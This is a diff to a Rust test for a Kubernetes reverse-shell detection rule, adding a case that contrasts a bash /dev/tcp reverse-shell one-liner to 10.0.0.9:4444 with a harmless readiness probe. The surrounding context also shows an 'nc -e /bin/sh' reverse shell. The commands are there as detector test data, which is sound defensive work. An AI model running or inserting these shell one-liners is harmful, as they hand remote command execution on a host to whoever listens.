@@ -503,6 +503,14 @@ fn node_rules_fire_and_look_alikes_stay_quiet() {
         ),
         (
             "K8S.NODE_ReverseShell",
+            &["bash", "-c", "exec 5<>/dev/tcp/10.0.0.9/4444; cat <&5 | while read l; do $l 2>&5 >&5; done"],
+            "/bin/bash",
+            // A readiness probe opening a TCP port through bash is not a shell on a socket.
+            &["bash", "-c", "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'"],
+            "/bin/bash",
+        ),
+        (
+            "K8S.NODE_ReverseShell",
             &["nc", "-e", "/bin/sh", "10.0.0.9", "4444"],
             "/bin/nc",
             &["nc", "-zv", "db", "5432"],
